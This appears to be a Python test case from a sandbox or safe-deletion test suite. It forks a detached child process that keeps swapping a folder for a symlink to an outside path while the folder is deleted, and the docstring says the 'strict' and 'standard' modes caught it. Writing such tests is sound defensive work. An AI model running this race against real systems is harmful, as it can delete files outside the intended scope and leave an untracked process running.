"""Leaves a process that swaps a folder for a link to one outside while its folder is being deleted.

Seen: the file outside is gone, or the process lives on.
Stopped at: strict, standard.
Verdict: wrong, raised.
"""
import os
import time


def attack():
    os.mkdir("folder")
    open("folder/canary", "w").close()
    if os.fork() == 0:
        target.mark()
        os.setsid()
        os.closerange(0, 64)
        end = time.monotonic() + 8
        while time.monotonic() < end:
            try:
                os.rename("folder", "aside")
                os.symlink(target.outside, "folder")
                os.unlink("folder")
                os.rename("aside", "folder")
            except OSError:
                pass
        os._exit(0)
    time.sleep(0.1)
